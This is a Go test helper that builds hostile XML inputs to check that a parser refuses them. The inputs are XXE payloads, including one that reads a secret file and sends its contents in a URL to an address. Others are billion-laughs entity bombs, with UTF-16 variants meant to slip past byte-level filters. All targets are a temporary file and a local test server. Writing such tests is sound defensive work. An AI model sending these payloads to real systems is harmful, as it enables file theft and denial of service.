package smevtest

import (
	"encoding/binary"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

// Here is the place in a document where what an entity stands for would go.
const Here = "&here;"

// Hostile are forms of a document that make a careless reader of XML open files and addresses (XXE), or need more memory
// than there is (billion laughs), by what they try. The document has Here in it, and no declaration. Nobody may ever come
// to the addresses that they name; a reader has to refuse them all.
func Hostile(t testing.TB, document string) map[string][]byte {
	t.Helper()
	if strings.Count(document, Here) != 1 {
		t.Fatalf("one %s is wanted in %q", Here, document)
	}
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { t.Errorf("a document had %s fetched", r.URL) }))
	t.Cleanup(server.Close)
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte(Secret), 0o600); err != nil {
		t.Fatal(err)
	}
	file, address := "file://"+secret, server.URL
	plain := strings.Replace(document, Here, "text", 1)
	doctype := func(subset string) string { return "<!DOCTYPE a [" + subset + "]>" }
	all := map[string][]byte{}
	for name, text := range map[string]string{
		"XXE: an external entity, a file":           doctype(`<!ENTITY here SYSTEM "`+file+`">`) + document,
		"XXE: an external entity, an address":       doctype(`<!ENTITY here SYSTEM "`+address+`/entity">`) + document,
		"XXE: an external entity by a public name":  doctype(`<!ENTITY here PUBLIC "-//A//B" "`+address+`/public">`) + document,
		"XXE: an entity that is never used":         doctype(`<!ENTITY here SYSTEM "`+file+`">`) + plain,
		"XXE: an external subset":                   `<!DOCTYPE a SYSTEM "` + address + `/a.dtd">` + plain,
		"XXE: an external subset by a public name":  `<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "` + address + `/xhtml.dtd">` + plain,
		"XXE: a parameter entity":                   doctype(`<!ENTITY % load SYSTEM "`+address+`/parameter"> %load;`) + plain,
		"XXE: a parameter entity that tells a file": doctype(`<!ENTITY % f SYSTEM "`+file+`"><!ENTITY % all "<!ENTITY here SYSTEM '`+address+`/?%f;'>"> %all;`) + document,
		"XXE: an entity that is not parsed":         doctype(`<!NOTATION n SYSTEM "`+address+`/n"><!ENTITY here SYSTEM "`+file+`" NDATA n>`) + plain,
		"XXE: behind a declaration and a comment":   "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- -->\n" + doctype(`<!ENTITY here SYSTEM "`+file+`">`) + document,
		"XXE: a default of an attribute":            doctype(`<!ENTITY x SYSTEM "`+file+`"><!ATTLIST a b CDATA "&x;">`) + plain,
		"XXE: an entity that nobody has declared":   document,
		"billion laughs":                            doctype(laughs("", "here")) + document,
		"billion laughs by parameter entities":      doctype(laughs("% ", "all")+" %all;") + plain,
		"billion laughs: one long entity, often":    doctype(`<!ENTITY x "`+strings.Repeat("y", 50_000)+`"><!ENTITY here "`+strings.Repeat("&x;", 10_000)+`">`) + document,
		"billion laughs: entities in a ring":        doctype(`<!ENTITY here "&b;"><!ENTITY b "&here;">`) + document,
	} {
		all[name] = []byte(text)
	}
	// A filter that looks for octets does not find these.
	all["XXE in UTF-16"] = wide(all["XXE: an external entity, a file"])
	all["billion laughs in UTF-16"] = wide(all["billion laughs"])
	return all
}

// Secret stands in the file that hostile documents name.
const Secret = "the content of a file of the server"

// laughs are ten entities, each of which is ten times the one before.
func laughs(kind, last string) string {
	sign := "&"
	if kind != "" {
		sign = "&#37;" // a parameter entity within a value is named by its number
	}
	var b strings.Builder
	fmt.Fprintf(&b, `<!ENTITY %sl0 "lol">`, kind)
	for i := 1; i <= 10; i++ {
		name := fmt.Sprintf("l%d", i)
		if i == 10 {
			name = last
		}
		fmt.Fprintf(&b, `<!ENTITY %s%s "%s">`, kind, name, strings.Repeat(fmt.Sprintf("%sl%d;", sign, i-1), 10))
	}
	return b.String()
}

func wide(text []byte) []byte {
	out := []byte{0xFF, 0xFE}
	for _, unit := range utf16.Encode([]rune(string(text))) {
		out = binary.LittleEndian.AppendUint16(out, unit)
	}
	return out
}
